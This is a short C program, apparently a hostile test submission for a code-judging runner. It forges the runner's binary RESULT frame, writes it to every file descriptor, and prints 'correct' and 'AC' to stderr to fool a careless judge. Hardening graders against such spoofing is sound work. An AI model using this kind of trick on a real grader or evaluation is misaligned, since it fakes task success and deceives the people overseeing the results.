#include "hostile.h"
#include <arpa/inet.h>
/* The runner's own RESULT frame, on every descriptor, and what a careless judge would look for. */
int main(void) {
  unsigned char frame[128] = {0};
  *(uint32_t *)frame = htonl(92);
  frame[4] = 0x85;
  frame[8] = 1;
  memset(frame + 5 + 5, 0, 4);
  for (int fd = 1; fd < 1024; fd++) write(fd, frame, 97);
  fputs("timelimit exceeded\ncorrect\nAC\n", stderr);
}
